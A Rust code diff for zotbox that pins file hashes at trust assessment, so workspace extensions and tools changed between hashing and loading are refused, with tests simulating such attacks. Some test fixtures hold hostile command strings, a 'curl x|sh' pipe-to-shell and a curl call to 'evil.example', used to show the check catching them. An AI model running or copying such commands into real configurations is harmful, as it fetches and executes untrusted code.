@@ -31,16 +31,27 @@
 //!    policy can set) trusts without a record.
 //! 6. **Only the user writes records**, through [`TrustStore::save`], into
 //!    `$ZOT_HOME`; nothing is ever read from the workspace to decide.
+//! 7. **What loads is what was hashed.** An [`Assessment`] keeps each
+//!    covered file's digest. When an extension of the workspace starts,
+//!    its manifest as parsed, its wasm as read and its native program and
+//!    script just before they run must match ([`Assessment::check`]);
+//!    a file changed, or added where trust covers files, since the
+//!    assessment refuses the start. The window between hashing and
+//!    loading (a `git pull` landing in it) lets nothing through, and a
+//!    restart is checked against a fresh assessment.
 
 mod contents;
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
+use std::sync::Arc;
 
 use serde::{Deserialize, Serialize};
 
 use crate::home::ZotHome;
 use crate::policy::{Policy, WorkspaceTrust};
+use crate::text::Shown;
+pub(crate) use contents::named_paths;
 pub use contents::{
     Contents, Covered, EXTENSIONS_DIR, EntryKind, FolderEntry, MAX_COVERED_FILES, MAX_HASHED_BYTES,
     ScanError, TOOL_DIRS, scan_folder,
@@ -294,6 +305,12 @@ pub enum Untrusted {
         /// The policy file that says so.
         by: PathBuf,
     },
+    /// Its files kept changing between being hashed and being loaded.
+    #[error(
+        "which kept changing while zotbox loaded it: once it settles, run `zotbox trust` to \
+         review and trust it"
+    )]
+    Unsettled,
     /// The workspace's files cannot be hashed.
     #[error("which cannot be trusted: {0}")]
     Unhashable(ScanError),
@@ -345,6 +362,10 @@ impl Standing {
             Self::Untrusted(Untrusted::Changed { at }) => format!(
                 "changed since you trusted it on {at}: run `zotbox trust` to review and trust it"
             ),
+            Self::Untrusted(Untrusted::Unsettled) => {
+                "kept changing while zotbox loaded it: run `zotbox trust` once it settles"
+                    .to_owned()
+            }
             Self::Untrusted(Untrusted::Unhashable(err)) => format!("cannot be trusted: {err}"),
             Self::Untrusted(Untrusted::Store(err)) => format!("cannot be checked: {err}"),
         }
@@ -366,9 +387,162 @@ pub struct Assessment {
     pub workspace: PathBuf,
     /// Where it stands.
     pub standing: Standing,
+    // What was hashed, when the standing rests on it (trusted, or nothing
+    // to trust): what a start checks the files it loads against.
+    contents: Option<Arc<Contents>>,
+}
+
+/// A file a workspace extension is about to load is not the one its
+/// workspace's trust covers. Displayed, like [`Assessment::refusal`], as
+/// the end of a sentence about the extension: ``extension `x` <this>``.
+#[derive(Debug, thiserror::Error)]
+pub enum PinError {
+    /// The workspace may not run at all.
+    #[error("{0}")]
+    Untrusted(String),
+    /// The file is not the content that was hashed.
+    #[error(
+        "comes from the workspace `{}`, whose `{}` is not the content zotbox checked against \
+         your trust (it changed since): review it with `zotbox trust`, then start it again",
+        Shown(&.workspace.to_string_lossy()),
+        Shown(&.path.to_string_lossy())
+    )]
+    Changed {
+        /// The workspace.
+        workspace: PathBuf,
+        /// The file, as the manifest reaches it.
+        path: PathBuf,
+    },
+    /// The file lies where trust covers files, and was not among them.
+    #[error(
+        "comes from the workspace `{}`, whose `{}` is not among the files you trusted (it \
+         appeared since): review it with `zotbox trust`, then start it again",
+        Shown(&.workspace.to_string_lossy()),
+        Shown(&.path.to_string_lossy())
+    )]
+    Uncovered {
+        /// The workspace.
+        workspace: PathBuf,
+        /// The file.
+        path: PathBuf,
+    },
+    /// The file could not be read to check it.
+    #[error(
+        "comes from the workspace `{}`, whose `{}` cannot be read to check it: {source}",
+        Shown(&.workspace.to_string_lossy()),
+        Shown(&.path.to_string_lossy())
+    )]
+    Unreadable {
+        /// The workspace.
+        workspace: PathBuf,
+        /// The file.
+        path: PathBuf,
+        /// The I/O error.
+        source: std::io::Error,
+    },
 }
 
 impl Assessment {
+    /// An assessment under which nothing of `workspace` runs, before any
+    /// was made.
+    pub(crate) fn not_yet(workspace: &Path) -> Self {
+        Self {
+            workspace: workspace.to_owned(),
+            standing: Standing::Untrusted(Untrusted::NotTrusted),
+            contents: None,
+        }
+    }
+
+    /// The SHA-256 `path` must hold when one of this workspace's extensions
+    /// loads it: trust names the content it hashed, not whatever a path
+    /// holds a moment later (a `git pull` between the check and the start).
+    /// `None` when anything there may load: the system policy trusts the
+    /// workspace whatever it holds, or the file lies outside the workspace
+    /// and every extension and tools folder (it is not the workspace's
+    /// content).
+    ///
+    /// # Errors
+    ///
+    /// [`PinError`] when the workspace may not run, or the file lies where
+    /// trust covers files and was not hashed (it appeared since).
+    pub fn expect(&self, path: &Path) -> Result<Option<[u8; 32]>, PinError> {
+        if let Some(refusal) = self.refusal() {
+            return Err(PinError::Untrusted(refusal));
+        }
+        let Some(contents) = &self.contents else {
+            return Ok(None);
+        };
+        let real = std::fs::canonicalize(path).map_err(|source| PinError::Unreadable {
+            workspace: self.workspace.clone(),
+            path: path.to_owned(),
+            source,
+        })?;
+        if let Some(digest) = contents.by_real_path.get(&real) {
+            return Ok(Some(*digest));
+        }
+        if contents.roots.iter().any(|root| real.starts_with(root)) {
+            return Err(PinError::Uncovered {
+                workspace: self.workspace.clone(),
+                path: path.to_owned(),
+            });
+        }
+        Ok(None)
+    }
+
+    /// Checks that `digest`, the SHA-256 of what was read from `path`, is
+    /// what [`Assessment::expect`] says the file must hold.
+    ///
+    /// # Errors
+    ///
+    /// As [`Assessment::expect`], and [`PinError::Changed`] for other content.
+    pub fn check(&self, path: &Path, digest: &[u8; 32]) -> Result<(), PinError> {
+        match self.expect(path)? {
+            Some(expected) if expected != *digest => Err(self.changed(path)),
+            _ => Ok(()),
+        }
+    }
+
+    /// Reads `path` and checks it as [`Assessment::check`] does: for files
+    /// that run without zotbox reading them (a native extension's program
+    /// and script), just before they start.
+    ///
+    /// # Errors
+    ///
+    /// As [`Assessment::check`] (a FIFO or device swapped in for a file is
+    /// not it, and is never read), and [`PinError::Unreadable`].
+    pub fn check_file(&self, path: &Path) -> Result<(), PinError> {
+        let Some(expected) = self.expect(path)? else {
+            return Ok(());
+        };
+        let unreadable = |source| PinError::Unreadable {
+            workspace: self.workspace.clone(),
+            path: path.to_owned(),
+            source,
+        };
+        let digest = match contents::hash_file(path) {
+            Ok(digest) => digest,
+            // Grown past what can have been hashed: not that file.
+            Err(ScanError::TooLarge { .. }) => return Err(self.changed(path)),
+            Err(ScanError::Read { source, .. }) => return Err(unreadable(source)),
+            Err(err @ ScanError::TooMany { .. }) => {
+                return Err(unreadable(std::io::Error::other(err.to_string())));
+            }
+        };
+        if digest == expected {
+            Ok(())
+        } else {
+            Err(self.changed(path))
+        }
+    }
+
+    /// [`PinError::Changed`] for `path`.
+    pub fn changed(&self, path: &Path) -> PinError {
+        PinError::Changed {
+            workspace: self.workspace.clone(),
+            path: path.to_owned(),
+        }
+    }
+
     /// ``comes from the workspace `/w`, which …``: why something of this
     /// workspace does not run; `None` when it may.
     pub fn refusal(&self) -> Option<String> {
@@ -387,19 +561,25 @@ pub fn assess(policy: &Policy, home: &ZotHome, workspace: &Path) -> Assessment {
     let workspace = std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_owned());
     let (setting, by) = policy.workspace_trust();
     let by = by.map(Path::to_path_buf).unwrap_or_default();
+    let mut hashed = None;
     let standing = match setting {
         WorkspaceTrust::Never => Standing::Untrusted(Untrusted::Never { by }),
         WorkspaceTrust::Always => Standing::TrustedByPolicy { by },
         WorkspaceTrust::Ask => match Contents::scan(&workspace) {
             Err(err) => Standing::Untrusted(Untrusted::Unhashable(err)),
-            Ok(contents) if contents.is_empty() => Standing::NothingToTrust,
+            Ok(contents) if contents.is_empty() => {
+                hashed = Some(Arc::new(contents));
+                Standing::NothingToTrust
+            }
             Ok(contents) => match TrustStore::load(home) {
                 Err(err) => Standing::Untrusted(Untrusted::Store(err)),
                 Ok(store) => match store.record(&workspace) {
                     None => Standing::Untrusted(Untrusted::NotTrusted),
-                    Some(record) if record.sha256 == contents.sha256 => Standing::Trusted {
-                        at: record.trusted_at.clone(),
-                    },
+                    Some(record) if record.sha256 == contents.sha256 => {
+                        let at = record.trusted_at.clone();
+                        hashed = Some(Arc::new(contents));
+                        Standing::Trusted { at }
+                    }
                     Some(record) => Standing::Untrusted(Untrusted::Changed {
                         at: record.trusted_at.clone(),
                     }),
@@ -410,7 +590,41 @@ pub fn assess(policy: &Policy, home: &ZotHome, workspace: &Path) -> Assessment {
     Assessment {
         workspace,
         standing,
+        contents: hashed,
     }
+}
+
+/// How many times [`assess_then_load`] assesses again before it gives up.
+const MAX_ASSESSMENTS: usize = 4;
+
+/// Assesses a workspace with `assess`, loads what that allows with `load`,
+/// and returns both once `check` finds that what loaded is what was hashed
+/// (rule 7). When it is not (a change landed between the hash and the
+/// load), the workspace is assessed and loaded again: a workspace changed
+/// since its record is then untrusted, and loads as such. One that keeps
+/// changing under every look is [`Untrusted::Unsettled`], loaded as
+/// untrusted.
+pub(crate) fn assess_then_load<T>(
+    mut assess: impl FnMut() -> Assessment,
+    mut load: impl FnMut(&Assessment) -> T,
+    mut check: impl FnMut(&Assessment, &T) -> Result<(), String>,
+) -> (Assessment, T) {
+    let mut assessment = assess();
+    for _ in 0..MAX_ASSESSMENTS {
+        let loaded = load(&assessment);
+        match check(&assessment, &loaded) {
+            Ok(()) => return (assessment, loaded),
+            Err(why) => tracing::warn!("{why}; assessing the workspace again"),
+        }
+        assessment = assess();
+    }
+    let unsettled = Assessment {
+        workspace: assessment.workspace,
+        standing: Standing::Untrusted(Untrusted::Unsettled),
+        contents: None,
+    };
+    let loaded = load(&unsettled);
+    (unsettled, loaded)
 }
 
 /// `dir` as an absolute path spelled as it was given, links and all: a
@@ -479,7 +693,8 @@ fn normalise(path: &Path) -> PathBuf {
 
 /// Refuses the extension folder `dir` when it lies in some workspace's
 /// `.zot/extensions/` and that workspace may not run (what `zotbox run`
-/// checks before it starts anything). Returns that workspace, if any.
+/// checks before it starts anything). Returns that workspace's assessment,
+/// which the start checks the files it loads against, if any.
 ///
 /// # Errors
 ///
@@ -488,13 +703,14 @@ pub fn check_extension_dir(
     dir: &Path,
     home: &ZotHome,
     policy: &Policy,
-) -> Result<Option<PathBuf>, String> {
+) -> Result<Option<Assessment>, String> {
     let Some(workspace) = workspace_of_extension(dir, home) else {
         return Ok(None);
     };
-    match assess(policy, home, &workspace).refusal() {
+    let assessment = assess(policy, home, &workspace);
+    match assessment.refusal() {
         Some(refusal) => Err(refusal),
-        None => Ok(Some(workspace)),
+        None => Ok(Some(assessment)),
     }
 }
 
@@ -645,6 +861,277 @@ mod tests {
                 f.ws.display()
             )
         );
+    }
+
+    fn sha256(bytes: &[u8]) -> [u8; 32] {
+        <sha2::Sha256 as sha2::Digest>::digest(bytes).into()
+    }
+
+    fn err_text<T: std::fmt::Debug>(result: Result<T, PinError>) -> String {
+        match result {
+            Ok(value) => panic!("not refused: {value:?}"),
+            Err(err) => err.to_string(),
+        }
+    }
+
+    #[test]
+    fn a_start_checks_what_it_loads_against_what_was_hashed_not_what_is_there_now() {
+        let f = fixture();
+        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+        let ext = f.ws.join(".zot/extensions/helper");
+        let trusted = assess(&Policy::permissive(), &f.home, &f.ws);
+        assert!(matches!(trusted.standing, Standing::Trusted { .. }));
+        // As hashed: the manifest as parsed and the script as it is.
+        let manifest = crate::manifest::Manifest::load(&ext.join("extension.json"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        trusted
+            .check(&manifest.path, &manifest.sha256)
+            .unwrap_or_else(|e| panic!("{e}"));
+        trusted
+            .check_file(&ext.join("run.sh"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        // Attack: one byte of the script changes after the assessment (a
+        // `git pull` landing between the hash and the start).
+        write(&ext.join("run.sh"), "touch markes\n");
+        assert_eq!(
+            err_text(trusted.check_file(&ext.join("run.sh"))),
+            format!(
+                "comes from the workspace `{}`, whose `{}` is not the content zotbox checked \
+                 against your trust (it changed since): review it with `zotbox trust`, then \
+                 start it again",
+                f.ws.display(),
+                ext.join("run.sh").display()
+            )
+        );
+        // A manifest parsed from other text than the one hashed.
+        let other = sha256(br#"{"name":"helper","exec":"sh","args":["-c","curl x|sh"]}"#);
+        assert!(matches!(
+            trusted.check(&manifest.path, &other),
+            Err(PinError::Changed { .. })
+        ));
+        // A file that appeared in the folder since: not among the trusted.
+        write(&ext.join("helper.wasm"), "\0asm\x01\0\0\0");
+        assert_eq!(
+            err_text(trusted.expect(&ext.join("helper.wasm"))),
+            format!(
+                "comes from the workspace `{}`, whose `{}` is not among the files you trusted \
+                 (it appeared since): review it with `zotbox trust`, then start it again",
+                f.ws.display(),
+                ext.join("helper.wasm").display()
+            )
+        );
+        // A FIFO swapped in for the script is not it, and is never read
+        // (the check does not wait for a writer).
+        std::fs::remove_file(ext.join("run.sh")).unwrap_or_else(|e| panic!("{e}"));
+        let status = std::process::Command::new("mkfifo")
+            .arg(ext.join("run.sh"))
+            .status()
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(status.success());
+        let script = ext.join("run.sh");
+        let fifo = crate::user_file::without_waiting(move || {
+            let trusted = trusted;
+            matches!(trusted.check_file(&script), Err(PinError::Changed { .. }))
+        });
+        assert!(fifo, "a FIFO passed the check");
+    }
+
+    #[test]
+    fn pins_follow_a_linked_extension_folder_and_a_wasm_linked_out_of_its_folder() {
+        let f = fixture();
+        // `.zot/extensions/linked` is a link to `src/linked`, whose wasm is
+        // a link to `build/linked.wasm`: both lie in the workspace.
+        let src = f.ws.join("src/linked");
+        write(
+            &src.join("extension.json"),
+            r#"{"name":"linked","wasm":"linked.wasm"}"#,
+        );
+        write(&f.ws.join("build/linked.wasm"), "\0asm\x01\0\0\0v1");
+        std::os::unix::fs::symlink("../../build/linked.wasm", src.join("linked.wasm"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        std::os::unix::fs::symlink("../../src/linked", f.ws.join(".zot/extensions/linked"))
+            .unwrap_or_else(|e| panic!("{e}"));
+        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+        let trusted = assess(&Policy::permissive(), &f.home, &f.ws);
+        let manifest =
+            crate::manifest::Manifest::load(&f.ws.join(".zot/extensions/linked/extension.json"))
+                .unwrap_or_else(|e| panic!("{e}"));
+        trusted
+            .check(&manifest.path, &manifest.sha256)
+            .unwrap_or_else(|e| panic!("{e}"));
+        let crate::manifest::Program::Wasm { path } = &manifest.program else {
+            panic!("not wasm: {manifest:?}");
+        };
+        let hashed = sha256(b"\0asm\x01\0\0\0v1");
+        assert_eq!(trusted.expect(path).ok().flatten(), Some(hashed));
+        // Rebuilt after the assessment: the start still expects what was
+        // hashed, and the runtime refuses the new bytes as it reads them.
+        write(&f.ws.join("build/linked.wasm"), "\0asm\x01\0\0\0v2");
+        assert_eq!(trusted.expect(path).ok().flatten(), Some(hashed));
+        // A FIFO trusted where a file could be: no file's content matches
+        // it, so a module swapped in later is refused.
+        let fifo = f.ws.join(".zot/extensions/helper/piped.wasm");
+        let status = std::process::Command::new("mkfifo")
+            .arg(&fifo)
+            .status()
+            .unwrap_or_else(|e| panic!("{e}"));
+        assert!(status.success());
+        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+        let with_fifo = assess(&Policy::permissive(), &f.home, &f.ws);
+        std::fs::remove_file(&fifo).unwrap_or_else(|e| panic!("{e}"));
+        write(&fifo, "\0asm\x01\0\0\0");
+        assert!(matches!(
+            with_fifo.check(&fifo, &sha256(b"\0asm\x01\0\0\0")),
+            Err(PinError::Changed { .. })
+        ));
+        assert!(matches!(
+            with_fifo.check_file(&fifo),
+            Err(PinError::Changed { .. })
+        ));
+        // A file outside the workspace and every extension folder is not
+        // the workspace's content: nothing is expected of it.
+        let outside = f.ws.with_file_name("elsewhere.wasm");
+        write(&outside, "\0asm\x01\0\0\0");
+        assert_eq!(trusted.expect(&outside).ok().flatten(), None);
+    }
+
+    #[test]
+    fn an_extension_added_after_nothing_was_found_is_uncovered_and_the_policy_pins_nothing() {
+        let f = fixture();
+        let empty = f.ws.with_file_name("empty");
+        std::fs::create_dir_all(&empty).unwrap_or_else(|e| panic!("{e}"));
+        let nothing = assess(&Policy::permissive(), &f.home, &empty);
+        assert!(matches!(nothing.standing, Standing::NothingToTrust));
+        // Attack: an extension lands between the assessment and discovery.
+        let late = empty.join(".zot/extensions/late");
+        write(
+            &late.join("extension.json"),
+            r#"{"name":"late","exec":"sh","args":["./run.sh"]}"#,
+        );
+        write(&late.join("run.sh"), "touch marker\n");
+        assert!(matches!(
+            nothing.check_file(&late.join("run.sh")),
+            Err(PinError::Uncovered { .. })
+        ));
+        // Untrusted: everything is refused, with the workspace's refusal.
+        let untrusted = assess(&Policy::permissive(), &f.home, &f.ws);
+        let refusal = untrusted.refusal().unwrap_or_default();
+        assert_eq!(
+            err_text(untrusted.expect(&f.ws.join(".zot/extensions/helper/run.sh"))),
+            refusal
+        );
+        // The system's `always` trusts whatever the workspace holds.
+        let always = Policy::from_layers(vec![crate::policy::Layer {
+            scope: crate::policy::Scope::System,
+            path: PathBuf::from("/s"),
+            file: serde_json::from_str(r#"{"workspace_trust":"always"}"#)
+                .unwrap_or_else(|e| panic!("{e}")),
+        }]);
+        let by_policy = assess(&always, &f.home, &f.ws);
+        for file in ["run.sh", "extension.json"] {
+            let path = f.ws.join(".zot/extensions/helper").join(file);
+            assert_eq!(by_policy.expect(&path).ok().flatten(), None);
+            by_policy
+                .check_file(&path)
+                .unwrap_or_else(|e| panic!("{e}"));
+        }
+    }
+
+    /// A workspace tool as loaded: `None` when the assessment holds it.
+    fn load_tool(assessment: &Assessment, path: &Path) -> Option<crate::data::DataTool> {
+        assessment.standing.allows().then(|| {
+            crate::data::DataTool::load(path, crate::data::DataOrigin::Project)
+                .unwrap_or_else(|e| panic!("{e}"))
+                .value
+        })
+    }
+
+    fn check_tool(
+        assessment: &Assessment,
+        tool: &Option<crate::data::DataTool>,
+    ) -> Result<(), String> {
+        match tool {
+            Some(tool) => assessment
+                .check(&tool.path, &tool.sha256)
+                .map_err(|e| e.to_string()),
+            None => Ok(()),
+        }
+    }
+
+    fn deploy(command: &str) -> String {
+        format!(r#"{{"name":"deploy","description":"d","kind":"shell","command":"{command}"}}"#)
+    }
+
+    #[test]
+    fn a_tool_changed_between_the_hash_and_the_load_is_caught_and_the_workspace_assessed_again() {
+        let f = fixture();
+        let tool = f.ws.join(".zot/tools/deploy.json");
+        write(&tool, &deploy("make deploy"));
+        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+        let policy = Policy::permissive();
+        // Control: nothing changes, the trusted tool loads at once.
+        let mut loads = 0;
+        let (settled, loaded) = assess_then_load(
+            || assess(&policy, &f.home, &f.ws),
+            |a| {
+                loads += 1;
+                load_tool(a, &tool)
+            },
+            check_tool,
+        );
+        assert!(matches!(settled.standing, Standing::Trusted { .. }));
+        assert!(loaded.is_some());
+        assert_eq!(loads, 1);
+        // Attack: the tool changes after the hash, before the load (the
+        // loader is where the `git pull` lands).
+        let mut loads = 0;
+        let (after, loaded) = assess_then_load(
+            || assess(&policy, &f.home, &f.ws),
+            |a| {
+                if loads == 0 {
+                    write(&tool, &deploy("curl https://evil.example/x"));
+                }
+                loads += 1;
+                load_tool(a, &tool)
+            },
+            check_tool,
+        );
+        assert!(
+            matches!(
+                after.standing,
+                Standing::Untrusted(Untrusted::Changed { .. })
+            ),
+            "{:?}",
+            after.standing
+        );
+        assert!(loaded.is_none(), "the changed tool loaded");
+        assert_eq!(loads, 2);
+        // A workspace that changes under every look, each version trusted
+        // before it loads: given up on, as untrusted.
+        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+        let mut loads = 0;
+        let (unsettled, loaded) = assess_then_load(
+            || assess(&policy, &f.home, &f.ws),
+            |a| {
+                loads += 1;
+                if a.standing.allows() {
+                    write(&tool, &deploy(&format!("make deploy-{loads}")));
+                    trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
+                }
+                load_tool(a, &tool)
+            },
+            check_tool,
+        );
+        assert_eq!(
+            unsettled.refusal().unwrap_or_default(),
+            format!(
+                "comes from the workspace `{}`, which kept changing while zotbox loaded it: once \
+                 it settles, run `zotbox trust` to review and trust it",
+                f.ws.display()
+            )
+        );
+        assert!(loaded.is_none());
+        assert_eq!(loads, MAX_ASSESSMENTS + 1);
     }
 
     #[test]
